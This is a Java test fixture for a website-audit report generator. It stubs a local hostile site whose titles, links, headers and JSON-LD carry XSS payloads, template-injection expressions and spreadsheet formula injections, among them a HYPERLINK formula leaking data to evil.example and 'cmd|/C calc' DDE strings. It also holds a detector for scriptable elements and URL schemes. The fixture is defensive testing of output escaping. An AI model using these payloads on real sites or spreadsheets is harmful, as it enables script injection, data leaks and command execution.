package dev.vitrine.report;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import dev.vitrine.model.AuditDefinition;
import dev.vitrine.model.CrawlSettings;
import java.net.URI;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/**
 * A company site written to attack the report: its titles, descriptions, headings, link
 * texts and URLs, image alts, JSON-LD, form actions, tel/mailto links, social links and
 * response headers carry script payloads, template expressions and spreadsheet formulas.
 * Audited once per test JVM through {@code Vitrine.audit}; {@link #problems} says what in a
 * report page could run.
 */
final class HostileSite {

    /** The company name itself is hostile: it is on every page of the report. */
    static final String COMPANY = "Durand <script>alert('company')</script> & Fils";

    /** Payloads that the report must show as text (they are on pages the report details). */
    static final String TITLE = "<script>alert('title')</script> Plomberie Durand";
    static final String DESCRIPTION = "</textarea><script>alert('description')</script> \"onmouseover=\"alert('attr')\" dépannage";
    static final String H1 = "<img src=x onerror=alert('h1')>";
    /** A Thymeleaf expression: shown as written, never evaluated (191 × 7001 = 1337191). */
    static final String TEMPLATE_EXPRESSION = "[[${191*7001}]] __${191*7001}__ [(${191*7001})]";
    static final String EVALUATED = "1337191";

    /** Spreadsheet formulas in page titles and descriptions: the CSV downloads must neutralise them. */
    static final String FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")";
    static final String FORMULA_DESCRIPTION = "+cmd|' /C calc'!A0 une description assez longue pour compter";
    static final String FORMULA_H1 = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String FORMULA_MINUS_TITLE = "-2+3+cmd|' /C calc'!A0";

    /** Raw markup that must never reach a report page unescaped (lower case, searched case-insensitively). */
    static final List<String> RAW_MARKUP = List.of("<script>alert", "<img src=x", "<svg onload", "<script src=\"https://evil",
            "<iframe src=\"javascript", "\"onmouseover=\"alert");

    private static final String JSON_LD = """
            {"@context":"https://schema.org","@type":["Plumber","<\\/script><script>alert('ld-type')<\\/script>"],
             "name":"<\\/script><script>alert('ld-name')<\\/script>",
             "description":"<img src=x onerror=alert('ld-description')>",
             "telephone":"<\\/script><svg onload=alert('ld-telephone')>",
             "url":"javascript:alert('ld-url')",
             "logo":"data:text/html,<script>alert('ld-logo')<\\/script>",
             "sameAs":["javascript:alert('same-as')",
                       "https://www.facebook.com/durand\\"><script>alert('same-as-facebook')<\\/script>",
                       "https://www.instagram.com/<img src=x onerror=alert('same-as-instagram')>/",
                       "https://www.youtube.com/@durand\\" onmouseover=\\"alert('same-as-youtube')"],
             "address":{"@type":"PostalAddress","streetAddress":"<\\/script><script>alert('ld-street')<\\/script>"}}
            """;

    private static WireMockServer server;
    private static Path runDir;

    private HostileSite() {}

    /** The hostile site audited in French, its report rendered. */
    static synchronized Path run() {
        if (runDir == null) {
            server = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
            server.start();
            try {
                stubPages(server);
                AuditDefinition audit = new AuditDefinition("durand", COMPANY, URI.create(server.baseUrl() + "/"), "fr",
                        List.of("leads", "visibility"), List.of(), null, null);
                runDir = ReportFixtures.vitrine().audit(audit, CrawlSettings.DEFAULTS.withDelayMillis(0)
                        .withVerifyProfiles(false), ReportFixtures.temp("hostile")).runDir(); // no request leaves the machine
            } finally {
                server.stop();
            }
        }
        return runDir;
    }

    private static void stubPages(WireMockServer site) {
        site.stubFor(any(anyUrl()).atPriority(10).willReturn(aResponse().withStatus(404)
                .withHeader("Content-Type", "text/html; charset=utf-8")
                .withHeader("Server", "<img src=x onerror=alert('server-404')>")
                .withBody("<html><head><title><script>alert('404')</script></title></head><body>introuvable</body></html>")));
        html(site, "/", page(escape(TITLE), escape(DESCRIPTION), """
                <link rel="canonical" href="javascript:alert('canonical')">
                <meta property="og:title" content="&lt;img src=x onerror=alert('og-title')&gt;">
                <meta property="og:image" content="javascript:alert('og-image')">
                <meta property="og:url" content="data:text/html,&lt;script&gt;alert('og-url')&lt;/script&gt;">
                <meta name="twitter:site" content="@durand&quot;&gt;&lt;script&gt;alert('twitter')&lt;/script&gt;">
                <meta name="generator" content="&lt;script&gt;alert('generator')&lt;/script&gt;">
                <meta name="theme-color" content="red;}&lt;/style&gt;&lt;script&gt;alert('theme')&lt;/script&gt;">
                <link rel="manifest" href="javascript:alert('manifest')">
                <link rel="icon" href="data:image/svg+xml,&lt;svg onload=alert('icon')&gt;">
                <link rel="alternate" type="application/rss+xml" href="javascript:alert('feed')">
                <link rel="alternate" hreflang="en&quot;&gt;&lt;script&gt;alert('hreflang')&lt;/script&gt;" href="javascript:alert('hreflang-href')">
                <script src="https://evil.example/&lt;script&gt;alert('script-src')&lt;/script&gt;.js"></script>
                <link rel="stylesheet" href="https://evil.example/x.css?&lt;script&gt;alert('css')&lt;/script&gt;">
                <script type="application/ld+json">""" + JSON_LD + """
                </script>
                <script type="application/ld+json">{"@type": "Broken", "name": "<\\/script><script>alert('ld-broken')<\\/script>" </script>
                """, """
                <h1>&lt;img src=x onerror=alert('h1')&gt;</h1>
                <h2>""" + TEMPLATE_EXPRESSION + """
                </h2>
                <h2>&lt;svg onload=alert('h2')&gt;</h2>
                <p>Plombier à Villeurbanne depuis 1998, dépannage et installation de salles de bains.</p>
                <a href="/a/">&lt;script&gt;alert('link-text')&lt;/script&gt;</a>
                <a href="/b/">""" + TEMPLATE_EXPRESSION + """
                </a>
                <a href="javascript:alert('js-link')">cliquez</a>
                <a href="  JaVaScRiPt:alert('js-link-case')">cliquez</a>
                <a href="java&#x09;script:alert('js-link-tab')">cliquez</a>
                <a href="data:text/html,&lt;script&gt;alert('data-link')&lt;/script&gt;">données</a>
                <a href="vbscript:msgbox('vbscript-link')">vb</a>
                <a href="/p?q=&quot;&gt;&lt;script&gt;alert('query')&lt;/script&gt;">recherche</a>
                <a href="/%22%3E%3Cscript%3Ealert('path')%3C/script%3E/">ancienne page</a>
                <a href="/&lt;img src=x onerror=alert('raw-path')&gt;">autre page</a>
                <a href="https://partenaire.example/&quot;&gt;&lt;script&gt;alert('external')&lt;/script&gt;">partenaire</a>
                <a href="tel:&lt;script&gt;alert('tel')&lt;/script&gt;">appelez</a>
                <a href="tel:+33472000000&quot;&gt;&lt;img src=x onerror=alert('tel2')&gt;">04 72 00 00 00</a>
                <a href="mailto:contact@durand.example?subject=&lt;img src=x onerror=alert('mailto')&gt;">écrivez</a>
                <a href="https://www.facebook.com/durand&quot;&gt;&lt;script&gt;alert('facebook-link')&lt;/script&gt;">Facebook</a>
                <a href="https://www.linkedin.com/company/javascript:alert('linkedin')">LinkedIn</a>
                <a href="https://twitter.com/&lt;svg onload=alert('x-link')&gt;">X</a>
                <a rel="me" href="javascript:alert('rel-me')">Mastodon</a>
                <a href="https://apps.apple.com/app/id1&quot;&gt;&lt;script&gt;alert('app')&lt;/script&gt;">App Store</a>
                <img src="/photo.png" alt="&lt;script&gt;alert('alt')&lt;/script&gt;">
                <img src="javascript:alert('img-src')">
                <img src="/photo.png?&lt;svg onload=alert('img-query')&gt;">
                <form action="javascript:alert('form-action')" method="post"><input type="email" name="email">
                  <textarea name="message"></textarea><button>Envoyer le message</button></form>
                <form action="/newsletter&quot;&gt;&lt;script&gt;alert('form-action2')&lt;/script&gt;"><input type="email" name="email"
                  placeholder="Votre e-mail pour la newsletter"><button>S'inscrire à la newsletter</button></form>
                <iframe src="javascript:alert('iframe')"></iframe>
                <iframe src="https://www.youtube.com/embed/x&quot;&gt;&lt;script&gt;alert('video')&lt;/script&gt;"></iframe>
                <time datetime="&lt;script&gt;alert('time')&lt;/script&gt;">hier</time>
                """),
                aResponse().withHeader("Server", "<img src=x onerror=alert('server')>")
                        .withHeader("X-Powered-By", "<script>alert('powered-by')</script>")
                        .withHeader("Set-Cookie", "<script>alert('cookie')</script>=1; Path=/")
                        .withHeader("Content-Security-Policy", "default-src 'none'; script-src <script>alert('csp')</script>")
                        .withHeader("Strict-Transport-Security", "max-age=<svg onload=alert('hsts')>"));
        html(site, "/a/", page(escape(FORMULA_TITLE), escape(FORMULA_DESCRIPTION), "",
                "<h1>" + escape(FORMULA_H1) + "</h1><p>Une page avec des formules.</p><a href=\"/b/\">B</a><a href=\"/\">accueil</a>"),
                aResponse());
        html(site, "/b/", page(escape(FORMULA_TITLE), escape(FORMULA_MINUS_TITLE), "",
                "<h1>" + escape(FORMULA_MINUS_TITLE) + "</h1><p>Même titre que la page A.</p><a href=\"/a/\">A</a>"),
                aResponse());
        html(site, "/c/", page(escape(FORMULA_MINUS_TITLE), null, "", "<h1>C</h1><p>Rien ici.</p>"), aResponse());
        site.stubFor(get(urlEqualTo("/photo.png")).willReturn(aResponse().withStatus(200)
                .withHeader("Content-Type", "image/png").withBody(new byte[] {(byte) 0x89, 'P', 'N', 'G'})));
        site.stubFor(get(urlEqualTo("/sitemap.xml")).willReturn(aResponse().withStatus(200)
                .withHeader("Content-Type", "application/xml")
                .withBody("<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>"
                        + site.baseUrl() + "/c/</loc></url><url><loc>javascript:alert('sitemap')</loc></url></urlset>")));
    }

    private static void html(WireMockServer site, String path, String body, ResponseDefinitionBuilder response) {
        site.stubFor(get(urlEqualTo(path)).willReturn(response.withStatus(200)
                .withHeader("Content-Type", "text/html; charset=utf-8").withBody(body)));
    }

    private static String page(String title, String description, String head, String body) {
        return "<!doctype html><html lang=\"fr\"><head><meta charset=\"utf-8\">"
                + "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">"
                + "<title>" + title + "</title>"
                + (description == null ? "" : "<meta name=\"description\" content=\"" + description + "\">")
                + head + "</head><body>" + body + "</body></html>";
    }

    /** Text as it is written in an HTML page (so that the page's own parser reads it back as that text). */
    static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
    }

    // ---- what could run in a report page

    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "action", "formaction", "xlink:href", "poster",
            "data", "background", "ping", "cite", "srcset", "imagesrcset", "manifest", "longdesc", "lowsrc", "dynsrc");
    private static final Set<String> FORBIDDEN_ELEMENTS = Set.of("iframe", "frame", "frameset", "object", "embed", "applet",
            "base", "portal");

    /**
     * What in a report page could run something the audited site wrote: a script that is not
     * the report's own ({@code src} under assets/ or data/), an event handler attribute, a
     * {@code javascript:}/{@code data:}/{@code vbscript:} URL, a frame, an object, a refresh.
     */
    static List<String> problems(Document doc, String page) {
        List<String> problems = new ArrayList<>();
        for (Element script : doc.select("script")) {
            String src = script.attr("src").strip();
            if (src.startsWith("./")) {
                src = src.substring(2);
            }
            boolean own = (src.startsWith("assets/") || src.startsWith("data/")) && !src.contains("..") && !src.contains(":");
            if (!own) {
                problems.add(page + ": a script that is not the report's own: " + abbreviate(script.outerHtml()));
            }
        }
        for (Element e : doc.getAllElements()) {
            String tag = e.normalName();
            if (FORBIDDEN_ELEMENTS.contains(tag)) {
                problems.add(page + ": <" + tag + "> " + abbreviate(e.outerHtml()));
            }
            if (tag.equals("meta") && List.of("refresh", "set-cookie").contains(e.attr("http-equiv").strip().toLowerCase(Locale.ROOT))) {
                problems.add(page + ": " + abbreviate(e.outerHtml()));
            }
            for (Attribute a : e.attributes()) {
                String key = a.getKey().toLowerCase(Locale.ROOT);
                String value = a.getValue();
                if (key.startsWith("on")) {
                    problems.add(page + ": an event handler " + key + "=\"" + abbreviate(value) + "\" on <" + tag + ">");
                } else if (key.equals("srcdoc")) {
                    problems.add(page + ": srcdoc on <" + tag + ">");
                } else if (URL_ATTRIBUTES.contains(key) || (List.of("animate", "set").contains(tag)
                        && List.of("to", "from", "values").contains(key))) {
                    for (String url : key.contains("srcset") ? value.split(",") : new String[] {value}) {
                        String scheme = scriptScheme(url);
                        if (scheme != null) {
                            problems.add(page + ": a " + scheme + " URL in " + key + " of <" + tag + ">: " + abbreviate(value));
                        }
                    }
                } else if (key.equals("style")) {
                    String css = value.toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                    if (css.contains("expression(") || css.contains("javascript:") || css.contains("-moz-binding")
                            || css.contains("behavior:")) {
                        problems.add(page + ": script in a style attribute of <" + tag + ">: " + abbreviate(value));
                    }
                }
            }
        }
        return problems;
    }

    /** "javascript:", "data:" or "vbscript:" when the URL would use that scheme, as a browser reads it; else null. */
    static String scriptScheme(String url) {
        StringBuilder sb = new StringBuilder();
        for (char c : url.toCharArray()) {
            if (c > ' ' && c != '\u007f') { // browsers drop spaces, tabs, newlines and controls in a scheme
                sb.append(Character.toLowerCase(c));
            }
        }
        String clean = sb.toString();
        for (String scheme : List.of("javascript:", "data:", "vbscript:")) {
            if (clean.startsWith(scheme)) {
                return scheme;
            }
        }
        return null;
    }

    static String abbreviate(String text) {
        String oneLine = text.replaceAll("\\s+", " ");
        return oneLine.length() > 160 ? oneLine.substring(0, 160) + "…" : oneLine;
    }
}
